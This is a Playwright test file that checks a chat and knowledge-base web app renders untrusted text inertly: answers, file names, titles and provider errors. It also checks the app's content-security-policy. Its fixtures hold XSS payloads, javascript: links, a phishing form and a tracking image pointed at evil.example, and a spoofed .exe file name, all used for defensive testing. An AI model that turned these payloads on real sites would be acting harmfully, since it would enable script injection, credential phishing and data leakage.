"""What strangers wrote, in the page: it can't run, load, lead astray or pass for the page itself."""

import re

import pytest
from playwright.sync_api import expect

from tests.support.documents import filled_base
from tests.support.files import png
from tests.support.provider_faults import ErrorInside200
from tests.support.visiting import Visitor

pytest_plugins = ["tests.support.visiting_fixtures"]

HTML = """<script>window.caught = 1</script>
<img src=x onerror="window.caught = 1">
<svg onload="window.caught = 1"><a xlink:href="javascript:window.caught = 1">x</a></svg>
<iframe srcdoc="<script>parent.caught = 1</script>"></iframe>
<form action="https://evil.example"><input name=key><button>Sign in again</button></form>
<button class="citation" data-number="1">1</button>
<style>body { display: none }</style>"""

MARKDOWN = """[run](javascript:window.caught=1) [data](data:text/html,<script>window.caught=1</script>)
[out](/sign-out) [in](#/knowledge) ![spy](https://evil.example/spy.png?q=secret) ![mine](/api/session)
[ref][1] and [1]

[1]: https://evil.example/forged

<https://evil.example/"onmouseover="window.caught=1>

![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

$\\href{javascript:window.caught=1}{x}$ $\\includegraphics{https://evil.example/a.png}$ $\\htmlClass{toast}{x}$

```"><img src=x onerror=window.caught=1>
</code></pre><script>window.caught=1</script>
```"""


def caught(visitor: Visitor) -> bool:
    found: bool = visitor.page.evaluate("'caught' in window")
    return found


@pytest.mark.parametrize("text", [HTML, MARKDOWN], ids=["html", "markdown"])
def test_answers_run_and_load_nothing(visitor: Visitor, text: str) -> None:
    visitor.provider.answer = f"{text}\n\nThe end of it."
    visitor.ask(text)
    answer = visitor.answered("The end of it.")
    expect(
        answer.locator("script, iframe, svg:not(.icon), form, input, style, object, [onerror], [onload]")
    ).to_have_count(0)
    expect(answer.locator("img")).to_have_count(0)
    expect(answer.locator("button.citation")).to_have_count(0)
    for link in answer.get_by_role("link").all():
        assert re.match("https?://", link.get_attribute("href") or "")
        assert (link.get_attribute("rel"), link.get_attribute("target")) == ("noopener noreferrer nofollow", "_blank")
    expect(visitor.questions).to_contain_text(text[:30])
    visitor.page.reload()
    visitor.answered("The end of it.")
    assert not caught(visitor)


def test_only_the_sources_of_an_answer_become_buttons(visitor: Visitor) -> None:
    text = b"# Ferries\n\nThe ferry to Sylt leaves at seven. <script>window.caught = 1</script> [2] [9] "
    name = '<img src=x onerror="caught=1">.md'
    base = filled_base(visitor.chatting.client, (name, text), name="<b>Ferries</b>")
    visitor.choose(visitor.chatting.bot(name="<i>Guide</i>", knowledgeBaseIds=[base]))
    visitor.provider.answer = "At seven [1]. As `[1]` says, [1](https://evil.example), [2] and [99]. $[1]$"
    visitor.ask("When does the ferry to Sylt leave?")
    answer = visitor.answered("At seven")
    expect(answer.locator("button.citation")).to_have_count(1)
    answer.get_by_role("button", name="Source 1", exact=True).click()
    panel = visitor.page.get_by_role("complementary")
    expect(panel).to_contain_text("<script>window.caught = 1</script>")
    expect(panel.locator("script, img, b")).to_have_count(0)
    visitor.page.keyboard.press("Escape")
    expect(panel).to_have_count(0)
    expect(answer.get_by_role("button", name="Source 1", exact=True)).to_be_focused()
    assert not caught(visitor)


NAMES = [
    '<img src=x onerror="window.caught=1">.png',
    "photo\u202egnp.exe.png",
    "'\"><script>window.caught=1</script>.png",
    "é" * 120 + ".png",
]


def test_names_of_files_are_text(visitor: Visitor) -> None:
    visitor.attach(*((name, png()) for name in NAMES))
    expect(visitor.page.locator(".draft.ready")).to_have_count(len(NAMES))
    visitor.ask('"><img src=x onerror="window.caught=1">')
    visitor.answered("The stub answers.")
    expect(visitor.questions.get_by_role("link")).to_have_count(len(NAMES))
    visitor.page.reload()
    expect(visitor.questions.get_by_role("link").first).to_contain_text("<img src=x onerror=")
    assert "\u202e" not in visitor.questions.inner_text()
    assert visitor.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert not caught(visitor)


TITLE = '"Red <img src=x onerror=caught"'
PAPER = f"""Harbour <b>papers</b> <script>window.caught = 1</script> are kept here.

The paper {TITLE} was written by Ada Lovelace for Acme Shipping. Ada Lovelace keeps {TITLE} in the harbour.
"""


def test_names_in_documents_and_titles_are_text_in_the_room_for_knowledge(visitor: Visitor) -> None:
    page, client = visitor.page, visitor.chatting.client
    base = filled_base(client, ("paper.txt", PAPER.encode()), name="<i>Harbour</i>", description="<b>All</b> of it")
    [document] = client.get(f"/knowledge/kb/{base}/documents").json()["items"]
    renamed = client.patch(f"/knowledge/kb/{base}/documents/{document['id']}", json={"title": "<u>Paper</u>\u202e"})
    assert renamed.status_code == 200, renamed.text
    visitor.open(f"knowledge/{base}")
    expect(page.get_by_role("heading", name="<i>Harbour</i>")).to_be_visible()
    expect(page).to_have_title("<i>Harbour</i> · Tributary")
    page.get_by_role("list", name="Documents").get_by_role("button").click()
    panel = page.get_by_role("complementary")
    expect(panel.get_by_role("heading", level=2)).to_contain_text("<u>Paper</u>")
    expect(panel).to_contain_text("<script>window.caught = 1</script>")
    visitor.open(f"knowledge/{base}/graph")
    entities = page.get_by_role("region", name="Entities")
    entities.get_by_role("link", name=TITLE.strip('"')).click()
    expect(entities.get_by_role("heading", name=TITLE.strip('"'))).to_be_visible()
    expect(page.get_by_role("img", name=f"around {TITLE.strip(chr(34))}")).to_be_visible()
    expect(page.locator("main, aside, .sidebar").locator("i:not(.bar i), u, script, img[src=x]")).to_have_count(0)
    assert not caught(visitor)


def test_what_a_provider_says_of_its_failure_is_text(visitor: Visitor) -> None:
    visitor.provider.next_chat(ErrorInside200(code=400, message=f"{HTML} {MARKDOWN}", after=2))
    visitor.provider.answer = "One two three."
    visitor.ask("Why?")
    expect(visitor.answers.last).to_contain_text("The answer broke off here.")
    expect(visitor.answers.last.locator("img, script, form, iframe")).to_have_count(0)
    expect(visitor.answers.last.get_by_role("link")).to_have_count(0)
    assert not caught(visitor)


def test_titles_of_conversations_and_names_of_bots_are_text(visitor: Visitor) -> None:
    page = visitor.page
    bot = visitor.chatting.bot(name=NAMES[0])
    asked = visitor.chatting.ask(bot, "Why?")
    visitor.chatting.client.patch(f"/api/conversations/{asked['conversationId']}", json={"title": HTML[:250]})
    visitor.choose(bot)
    visitor.open(f"chat/{asked['conversationId']}")
    expect(page.get_by_role("navigation", name="Conversations")).to_contain_text("<script>window.caught = 1</script>")
    expect(page.locator(".bot-bar")).to_contain_text(NAMES[0])
    expect(page.locator(".bot-bar img, .sidebar script, .sidebar form:not([action$='/sign-out'])")).to_have_count(0)
    assert not caught(visitor)


def test_the_page_may_not_be_framed_and_runs_its_own_scripts_only(visitor: Visitor) -> None:
    response = visitor.chatting.client.get("/")
    policy = dict(part.strip().partition(" ")[::2] for part in response.headers["content-security-policy"].split(";"))
    assert policy["default-src"] == "'self'"
    assert (policy["frame-ancestors"], policy["object-src"], policy["base-uri"]) == ("'none'", "'none'", "'none'")
    assert "unsafe" not in response.headers["content-security-policy"]
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "<script>" not in response.text
    blocked = visitor.page.evaluate(
        """() => {
            try { document.body.innerHTML = '<p>'; return false } catch (error) { return error instanceof TypeError }
        }"""
    )
    assert blocked
    # Which the policy told of.
    visitor.errors.clear()
